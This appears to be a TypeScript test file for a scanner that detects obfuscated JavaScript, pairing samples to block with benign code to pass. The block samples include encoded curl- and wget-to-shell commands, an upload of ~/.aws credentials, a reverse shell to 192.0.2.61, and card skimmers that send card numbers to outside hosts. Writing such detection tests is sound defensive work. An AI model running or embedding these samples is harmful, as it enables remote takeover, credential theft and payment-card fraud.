import { deobfCases, enc } from "./_deobf_testing.ts";

const PAY = "require('child_process').execSync('curl -s http://198.51.100.7/j|sh')";

deobfCases("javascript", [
  {
    id: "decoded",
    block: [
      `node -e "Function(atob('${enc.b64(PAY)}'))()"`,
      `node -e "eval(String.fromCharCode(${enc.codes(PAY)}))"`,
      `node -e "eval(Buffer.from('${enc.hex(PAY)}','hex').toString())"`,
      `node -e "eval('${enc.rev(PAY).replaceAll("'", "\\\\'")}'.split('').reverse().join(''))"`,
      `node -e "var _0x3f1a=['child_process','execSync','curl -s http://198.51.100.7/j|sh'];require(_0x3f1a[0])[_0x3f1a[1]](_0x3f1a[2])"`,
      `node -e "require('child_'+'process')['ex'+'ecSync']('curl -s http://198.51.100.7/j|sh')"`,
      `node -e "new Function(atob(process.argv[2]))()" payload`,
      `node -e "global['ev'+'al'](atob('${enc.b64(PAY)}'))"`,
      `node -e "eval('${[...PAY].map((c) => "\\x" + c.charCodeAt(0).toString(16)).join("")}')"`,
    ],
    pass: [
      `document.addEventListener('keydown', e => console.log(String.fromCharCode(e.keyCode)))`,
      `const img = Buffer.from(data, 'base64'); fs.writeFileSync('out.png', img)`,
      `console.log("\\x1b[31merror\\x1b[0m")`,
      `const reversed = str.split('').reverse().join('');`,
      `const label = 'Total: ' + count + ' items';`,
      `const t = atob('eyJhbGciOiJIUzI1NiJ9'); console.log(JSON.parse(t))`,
    ],
  },
  {
    // A card skimmer whose selectors, sender and URL are char codes (an appsec rule on the view).
    id: "decoded",
    block: [
      `<script>var w=window,d=document,u=String.fromCharCode(${
        enc.codes("https://px.stat-edge.net/b")
      });
d.addEventListener('submit',function(){var v=d.querySelector(String.fromCharCode(${
        enc.codes("#card-number")
      })).value;
w[String.fromCharCode(${enc.codes("navigator")})][String.fromCharCode(${
        enc.codes("sendBeacon")
      })](u,v);},true);</script>`,
      `<script>var k=[String.fromCharCode(${enc.codes("[name=cvc]")})],h=String.fromCharCode(${
        enc.codes("https://cdn.fontpack.io/f")
      });
document.forms[0].addEventListener('change',function(){fetch(h,{method:'POST',body:document.querySelector(k[0]).value});});</script>`,
    ],
    pass: [
      `<script>var l=String.fromCharCode(${enc.codes("#card-number")});
document.addEventListener('submit',function(){document.querySelector(l).classList.add('checked');});</script>`,
      `<script>var u=String.fromCharCode(${enc.codes("/api/checkout")});
form.addEventListener('submit',function(){fetch(u,{method:'POST',body:new FormData(form)});});</script>`,
    ],
  },
]);

/** javascript-obfuscator's string array behind an accessor (index shift, base64 encoding). */
const wrapped = (items: string[], call: string, shift = 0, b64 = true) =>
  `var _0x5e1c=[${items.map((s) => `'${b64 ? enc.b64(s) : s}'`).join(",")}];` +
  `function _0x2f9a(_0x11,_0x22){_0x11=_0x11-${shift};return ${
    b64 ? "atob(" : "("
  }_0x5e1c[_0x11]);}${call}`;

deobfCases("javascript-accessor", [
  {
    id: "decoded",
    block: [
      wrapped(
        ["child_process", "exec", "wget -qO- http://192.0.2.61/x | sh"],
        "require(_0x2f9a(0x10))[_0x2f9a(0x11)](_0x2f9a(0x12));",
        0x10,
      ),
      wrapped(
        ["child_process", "execSync", "tar cz ~/.aws | curl -T - https://192.0.2.61/u"],
        "const c=require(_0x2f9a(0));c[_0x2f9a(1)](_0x2f9a(2));",
        0,
        false,
      ),
      wrapped(
        ["net", "Socket", "192.0.2.61", "/bin/sh", "child_process", "spawn"],
        "var n=require(_0x2f9a(0x1));var s=new n[_0x2f9a(0x2)]();s.connect(4444,_0x2f9a(0x3),function(){var p=require(_0x2f9a(0x5))[_0x2f9a(0x6)](_0x2f9a(0x4),[]);s.pipe(p.stdin);p.stdout.pipe(s);});",
        1,
      ),
    ],
    pass: [
      wrapped(
        ["child_process", "exec", "git status --short"],
        "require(_0x2f9a(0x10))[_0x2f9a(0x11)](_0x2f9a(0x12));",
        0x10,
      ),
      wrapped(["log", "build finished"], "console[_0x2f9a(0)](_0x2f9a(1));"),
      wrapped(
        ["fs", "readFileSync", "package.json"],
        "require(_0x2f9a(0))[_0x2f9a(1)](_0x2f9a(2));",
      ),
    ],
  },
]);
